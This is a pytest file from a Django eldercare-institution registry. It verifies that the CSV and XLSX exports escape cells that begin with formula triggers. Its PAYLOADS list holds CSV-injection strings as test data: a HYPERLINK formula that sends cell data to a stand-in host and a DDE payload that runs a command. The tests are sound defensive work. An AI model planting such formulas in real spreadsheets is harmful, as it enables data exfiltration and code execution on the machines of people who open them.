"""Exported cells cannot run as formulas (SECURITY.md "Uploads and exports"): a text cell starting
with = + - @, tab or carriage return leaves every export — the institution registry (page and
API) and the contracts list, CSV and XLSX — with a leading apostrophe, as a text cell; and no
cell of those files starts with a formula trigger at all.

Elsewhere: the shared helper on every trigger (tests/unit/test_pure.py::
test_export_neutralises_formula_starts), "=" through the registry export (tests/functional/
test_institutions_pages.py::test_export_neutralised_and_audited), the annotated error sheet
(tests/functional/test_import_pages.py::test_annotated_sheet_neutralises_formulas), the
liabilities workbook (tests/integration/test_subsidy_payments.py::
test_liabilities_xlsx_opens_and_neutralises_text)."""

import csv
import datetime
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from contracts import services as contracts
from contracts.models import Contract
from eldercare.accounts.scope import SYSTEM
from institutions.credit_code import check_character
from institutions.models import Institution
from tests.factories import login, make_home, make_hospital

pytestmark = pytest.mark.django_db
D = datetime.date
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def code(seed: int) -> str:
    body = f"52370306MJ{seed:07d}"
    return body + check_character(body)


def cells_of(fmt: str, content: bytes) -> list[list]:
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return [list(r) for r in ws.iter_rows(values_only=True)]


def assert_neutralised(fmt: str, content: bytes, column: str):
    rows = cells_of(fmt, content)
    header, body = rows[0], rows[1:]
    values = {r[header.index(column)] for r in body}
    for payload in PAYLOADS:
        if fmt == "xlsx":  # XML reads a carriage return back as a line feed
            payload = payload.replace("\r", "\n")
        assert "'" + payload in values, (fmt, column, payload, values)
    for r in rows:
        for value in r:
            assert not (isinstance(value, str) and value.startswith(TRIGGERS)), (fmt, value)


@pytest.fixture
def hostile_registry(regions):
    """Six homes whose name and address start with each trigger (as an older system's data, or
    a change through any path, could leave them: stored directly)."""
    for i, payload in enumerate(PAYLOADS):
        home = make_home(name=f"养老院{i}", region="370306100000", credit_code=code(i + 1))
        Institution.objects.filter(pk=home.pk).update(name=payload, address=payload)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("where", ["page", "api"])
def test_institution_export_neutralises_every_trigger(hostile_registry, make_user, fmt, where):
    c = login(Client(), make_user("c1", "civil"))
    if where == "page":
        resp = c.get("/institutions/", {"export": fmt})
    else:
        resp = c.get("/api/v1/institutions/export/", {"format": fmt})
    assert resp.status_code == 200, resp.content[:300]
    assert_neutralised(fmt, resp.content, "机构名称")
    assert_neutralised(fmt, resp.content, "地址")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contract_export_neutralises_every_trigger(regions, make_user, fmt):
    hospital = make_hospital(opened_on=D(2010, 1, 1))
    home = make_home(opened_on=D(2020, 1, 1))
    for i, payload in enumerate(PAYLOADS):
        c = contracts.contract_create(
            actor=SYSTEM,
            facts={
                "medical": hospital,
                "eldercare": home,
                "agreement_no": f"BJ-{i}",
                "mode": "agreement",
                "start": D(2020 + i, 1, 1),
                "end": D(2020 + i, 12, 31),
            },
        )
        Contract.objects.filter(pk=c.pk).update(agreement_no=payload)
    client = login(Client(), make_user("c1", "civil"))
    resp = client.get("/contracts/export/", {"format": fmt})
    assert resp.status_code == 200, resp.content[:300]
    assert_neutralised(fmt, resp.content, "协议编号")
